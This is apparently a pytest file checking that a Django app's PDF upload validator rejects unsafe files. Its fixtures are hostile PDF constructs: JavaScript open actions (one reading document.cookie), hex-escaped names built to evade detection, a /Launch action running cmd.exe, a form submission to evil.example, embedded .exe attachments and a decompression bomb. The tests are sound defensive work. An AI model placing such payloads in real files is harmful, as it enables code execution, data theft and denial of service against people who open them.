import io
import time
import tracemalloc
from pathlib import Path

import pypdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from congresses import files
from congresses.files import validate_pdf
from tests.factories import pdf_bytes

SAMPLE = (
    Path(__file__).resolve().parents[2] / "fixtures" / "congresses" / "sample-resolution.pdf"
).read_bytes()


def upload(data, name="nghi-quyet.pdf"):
    return SimpleUploadedFile(name, data, content_type="application/pdf")


def test_a_real_pdf_passes():
    validate_pdf(upload(SAMPLE))


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"<html><script>alert(1)</script></html>", "not_pdf"),
        (b"\x89PNG\r\n\x1a\n" + SAMPLE, "not_pdf"),
        (b"MZ\x90\x00" + b"x" * 100, "not_pdf"),
        (b"%PDF-1.4\n" + b"garbage" * 20, "broken_pdf"),
        (SAMPLE[: len(SAMPLE) // 2], "broken_pdf"),
        (
            SAMPLE.replace(
                b"/Type /Catalog",
                b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
            ),
            "active_pdf",
        ),
    ],
)
def test_files_that_are_not_clean_pdfs_are_refused(data, code):
    with pytest.raises(ValidationError) as exc:
        validate_pdf(upload(data))
    assert exc.value.code == code


SCRIPT = b"<< /S /JavaScript /JS (app.alert(document.cookie)) >>"
HEX_SCRIPT = b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"
EMBEDDED = [
    b"<< /Names [(hoa-don.exe) 7 0 R] >>",
    b"<< /Type /Filespec /F (hoa-don.exe) /EF << /F 8 0 R >> >>",
    b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
]
ACTIVE_PDFS = {
    # The regular expression this replaced read raw bytes: it missed #xx escapes in names...
    "hex-escaped script": (pdf_bytes(b"/OpenAction 6 0 R", [HEX_SCRIPT]), "active_pdf"),
    # ... and everything inside compressed object streams.
    "script in an object stream": (
        pdf_bytes(b"/OpenAction 6 0 R", [SCRIPT], packed=[6]),
        "active_pdf",
    ),
    "page opening a script (/AA)": (
        pdf_bytes(objects=[SCRIPT]).replace(
            b"/Contents 5 0 R", b"/Contents 5 0 R /AA << /O 6 0 R >>"
        ),
        "active_pdf",
    ),
    "launch action": (
        pdf_bytes(b"/OpenAction << /S /Launch /F (cmd.exe) /P (/c calc) >>"),
        "pdf_action",
    ),
    "hex-escaped launch in an object stream": (
        pdf_bytes(b"/OpenAction 6 0 R", [b"<< /S /L#61unch /F (cmd.exe) >>"], packed=[6]),
        "pdf_action",
    ),
    "form sending data": (
        pdf_bytes(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
        "pdf_action",
    ),
    "link to another PDF": (
        pdf_bytes(b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
        "pdf_action",
    ),
    "embedded file": (pdf_bytes(b"/Names << /EmbeddedFiles 6 0 R >>", EMBEDDED), "pdf_attachment"),
    "embedded file in an object stream": (
        pdf_bytes(b"/Names << /EmbeddedFiles 6 0 R >>", EMBEDDED, packed=[6, 7]),
        "pdf_attachment",
    ),
    "XFA form": (pdf_bytes(b"/AcroForm << /Fields [] /XFA 6 0 R >>", [b"[]"]), "pdf_form"),
}


def test_a_genuine_pdf_with_object_streams_and_harmless_actions_passes():
    # Go to the first page when opened, a web link on the page: what real documents have.
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
    link += b"/A << /S /URI /URI (https://vufo.org.vn/) >> >>"
    data = pdf_bytes(b"/OpenAction [3 0 R /Fit]", [link], packed=[4, 6]).replace(
        b"/Contents 5 0 R", b"/Contents 5 0 R /Annots [6 0 R]"
    )
    assert pypdf.PdfReader(io.BytesIO(data)).pages[0].extract_text() == "Nghi quyet Dai hoi"
    validate_pdf(upload(data))
    validate_pdf(upload(pdf_bytes()))


@pytest.mark.parametrize(("data", "code"), ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
def test_active_pdfs_are_refused_with_their_message(data, code):
    # Each is a PDF a viewer opens: pypdf reads it, the page is there.
    assert pypdf.PdfReader(io.BytesIO(data)).pages[0].extract_text() == "Nghi quyet Dai hoi"
    with pytest.raises(ValidationError) as exc:
        validate_pdf(upload(data))
    assert exc.value.code == code
    assert exc.value.messages == [str(files._MESSAGES[code])]


def test_an_encrypted_pdf_is_refused():
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(SAMPLE))
    writer.encrypt(user_password="", owner_password="secret", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    with pytest.raises(ValidationError) as exc:
        validate_pdf(upload(buffer.getvalue()))
    assert exc.value.code == "pdf_encrypted"
    assert "mã hóa hoặc đặt mật khẩu" in exc.value.messages[0]  # the reader's language: vi


def test_a_pdf_pypdf_cannot_read_is_refused_as_damaged():
    # Every marker the quick structural check looks for, around objects that do not parse.
    data = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Kids [[[ >>\nendobj\n"
    data += (
        b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<< /Size 2 /Root 1 0 R >>"
    )
    data += b"\nstartxref\n58\n%%EOF\n"
    with pytest.raises(ValidationError) as exc:
        validate_pdf(upload(data))
    assert exc.value.code == "broken_pdf"


def test_an_object_stream_bomb_is_stopped_at_the_limit(monkeypatch):
    """An object stream inflating to 160 MB (under the 256 MB total the raw check allows):
    pypdf must give up at PDF_MAX_DECODED_STREAM instead of inflating it in memory."""
    crafted = pdf_bytes(
        b"/OpenAction 6 0 R", [b"<< /S /GoTo /D [3 0 R /Fit] >>"], packed=[6], padding=160
    )
    assert len(crafted) < 200_000
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(ValidationError) as exc:
            validate_pdf(upload(crafted))
        elapsed = time.perf_counter() - started
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert exc.value.code == "pdf_bomb"
    # pypdf holds the stream being inflated and one copy of it: about twice the limit, where
    # its own default (75 MB) would take 150 MB and no limit the 160 MB of the whole stream.
    assert peak < 3 * files.PDF_MAX_DECODED_STREAM, peak
    assert elapsed < 20, elapsed


def test_a_pdf_name_does_not_make_a_pdf():
    with pytest.raises(ValidationError):
        validate_pdf(upload(b"just text", name="report.pdf"))


def test_size_limit(monkeypatch):
    monkeypatch.setattr(files, "PDF_MAX_BYTES", len(SAMPLE) - 1)
    with pytest.raises(ValidationError) as exc:
        validate_pdf(upload(SAMPLE))
    assert exc.value.code == "too_large"


def test_stored_under_a_generated_name():
    name = files.document_upload_to(None, "Nghị quyết của Ông A (bản mật).pdf")
    assert name.startswith("congresses/documents/") and name.endswith(".pdf")
    assert "Ông" not in name and len(Path(name).stem) == 32


def test_document_upload_through_the_admin(secretariat_client, congress):
    from django.urls import reverse
    from django.utils import translation

    from congresses.models import CongressDocument

    from .test_admin import congress_data, management

    def post(data_file):
        data = congress_data(congress.union, **management("documents", total=1))
        data.update(
            {
                "documents-0-title_vi": "Nghị quyết Đại hội",
                "documents-0-title_en": "Resolution",
                "documents-0-order": "0",
                "documents-0-file": data_file,
                "documents-0-congress": str(congress.pk),
            }
        )
        with translation.override("vi"):
            url = reverse("admin:congresses_congress_change", args=[congress.pk])
        return secretariat_client.post(url, data, follow=True)

    page = post(upload(b"not a pdf at all", name="fake.pdf")).content.decode()
    assert "Tệp này không phải là tài liệu PDF" in page
    assert not CongressDocument.objects.exists()
    assert post(upload(SAMPLE, name="Nghị quyết.pdf")).status_code == 200
    document = CongressDocument.objects.get()
    assert document.file.name.startswith("congresses/documents/")
    assert document.file.read().startswith(b"%PDF-")
